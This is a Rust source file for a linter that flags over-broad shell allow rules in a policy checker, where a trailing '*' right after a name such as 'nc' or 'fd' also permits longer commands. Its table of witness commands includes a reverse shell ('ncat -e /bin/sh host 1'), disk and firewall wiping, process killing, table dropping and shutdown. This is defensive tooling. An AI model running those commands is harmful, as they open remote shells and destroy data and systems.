//! CG0507: an allow whose `*` stands right behind a name, so that it covers longer names as well.
//!
//! Only names are looked at that are the beginning of another well-known command, one that does more than was meant.

use callgate_grammar::pattern::Token;
use callgate_runtime::rule::Effect;

use super::NO_WORD_BOUNDARY;
use crate::lower::quoted;
use crate::normal::Dialect;
use crate::world::{Finding, Placed, World};

/// What is written before the `*`, and a call of another command that it covers.
const COVERED: &[(&str, &str)] = &[
    ("at", "atrm 1"),
    ("bun", "bunx evil"),
    ("cp", "cpio -i"),
    ("fd", "fdisk /dev/sda"),
    ("git diff", "git difftool -y -x reboot"),
    ("git fetch", "git fetch-pack --exec=reboot . x"),
    ("git cherry", "git cherry-pick x"),
    ("host", "hostnamectl set-hostname x"),
    ("ip", "iptables -F"),
    ("kill", "killall init"),
    ("ls", "lsof -i"),
    ("mount", "mount.nfs host:/ /mnt"),
    ("nc", "ncat -e /bin/sh host 1"),
    ("node", "nodemon x.js"),
    ("npm i", "npm init evil"),
    ("pip", "pipx run evil"),
    ("ps", "psql -c 'DROP TABLE t'"),
    ("sh", "shutdown now"),
    ("ss", "ssh host reboot"),
    ("su", "sudo reboot"),
    ("time", "timeout 9 reboot"),
    ("tr", "truncate -s 0 x"),
    ("uv", "uvx evil"),
    ("w", "wget example.org/x"),
    ("who", "whois example.org"),
];

/// A rule at most once.
pub(crate) fn find<'a>(world: &World<'a>) -> Vec<Finding<'a>> {
    world
        .shell_rules(Effect::Allow)
        .filter_map(|placed| covering(world, placed))
        .collect()
}

fn covering<'a>(world: &World<'a>, placed: Placed<'a>) -> Option<Finding<'a>> {
    let name = before_star(placed.tokens()?)?;
    let (_, line) = COVERED.iter().find(|(known, _)| *known == name)?;
    placed.audiences().iter().copied().find_map(|audience| {
        let verdict = world.ask(world.shell(), line, audience);
        if verdict.effect != Effect::Allow || verdict.rule != Some(placed.rank) {
            return None;
        }
        let message = format!(
            "{} covers more than {}: {} is allowed",
            quoted(&placed.rule.pattern),
            quoted(&name),
            quoted(line)
        );
        let help = match world.dialect {
            Dialect::Rules => format!("write two patterns, `{name}` and `{name} *`"),
            Dialect::Layered => {
                let written = world.written(placed).trim_matches(['\'', '"']);
                let tool = written.split('(').next().unwrap_or_else(|| world.shell());
                format!("write two rules, `{tool}({name})` and `{tool}({name} *)`")
            }
        };
        let witness = world.witness(world.shell(), line, audience);
        Some(Finding::new(&NO_WORD_BOUNDARY, placed, (message, help), witness))
    })
}

/// Whether the pattern covers the line only because nothing ends its name, as this lint tells.
pub(super) fn is_covered(placed: Placed<'_>, line: &str) -> bool {
    let name = placed.tokens().and_then(before_star).unwrap_or_default();
    let continued = line
        .strip_prefix(name.as_str())
        .and_then(|rest| rest.chars().next());
    COVERED.iter().any(|(known, _)| *known == name) && continued.is_some_and(|c| c != ' ')
}

/// The text of a pattern that is a text and one `*` at its end.
fn before_star(tokens: &[Token]) -> Option<String> {
    let (last, name) = tokens.split_last()?;
    let letter = |token: &Token| match token {
        Token::Char(character) => Some(*character),
        Token::Star | Token::Any | Token::Set(_) => None,
    };
    let name: String = name.iter().map(letter).collect::<Option<_>>()?;
    (*last == Token::Star).then_some(name)
}

#[cfg(test)]
mod tests {
    use super::COVERED;
    use crate::{Options, Source, inspect};

    fn codes(allows: &str) -> Vec<&'static str> {
        let text = format!("mode: rules\ndeny: {{bash: ['*&*']}}\nallow: {{bash: [{allows}]}}\n");
        let source = Source {
            name: "policy.yaml",
            bytes: text.as_bytes(),
        };
        let found = inspect(&source, &Options::default()).diagnostics;
        found.iter().map(|found| found.code).collect()
    }

    #[test]
    fn each_name_is_found_without_its_boundary_and_not_with_it() {
        for (name, line) in COVERED {
            assert!(line.starts_with(name), "{line}");
            assert!(codes(&format!("'{name}*'")).contains(&"CG0507"), "{name}");
            assert!(
                !codes(&format!("'{name}', '{name} *'")).contains(&"CG0507"),
                "{name}"
            );
        }
    }

    #[test]
    fn other_names_are_not_found() {
        for name in ["cargo test", "git log", "git status", "grep", "npm test", "cat"] {
            assert_eq!(codes(&format!("'{name}*'")), [""; 0], "{name}");
        }
    }
}
